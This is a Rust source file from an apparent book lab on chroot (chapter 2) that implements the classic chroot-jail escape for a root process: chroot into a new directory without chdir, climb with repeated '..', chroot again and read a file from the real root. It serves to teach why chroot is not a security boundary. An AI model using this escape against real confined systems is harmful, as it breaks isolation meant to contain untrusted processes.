// in chapters/02-chroot/lab/chroot-escape.rs
//! The classic way out of a chroot(2) jail, for a process that is root in it.
//!
//!     chroot-escape FILE    print FILE as seen from the real root, if we get there
//!
//! Built as a static binary (it runs inside the busybox rootfs, which has no
//! shared libraries) and copied into the rootfs by chapter 2's lab check.

use std::os::unix::fs::chroot;
use std::{env, fs};

// ANCHOR: escape
fn main() {
    let file = env::args().nth(1).expect("usage: chroot-escape FILE");
    // 1. Make a directory and chroot into it, *without* chdir into it: our
    //    current directory is now outside our root directory.
    fs::create_dir_all("/escape").expect("mkdir /escape");
    chroot("/escape").expect("chroot /escape");
    // 2. The kernel stops ".." only *at* the root; we are outside it, so every
    //    ".." climbs, up to the real root of the mount namespace.
    for _ in 0..64 {
        env::set_current_dir("..").expect("chdir ..");
    }
    // 3. Make where we stand our root again.
    chroot(".").expect("chroot .");
    match fs::read_to_string(&file) {
        Ok(text) => println!("escaped: {file} says {}", text.trim()),
        Err(e) => println!("still inside: {file}: {e}"),
    }
}
// ANCHOR_END: escape
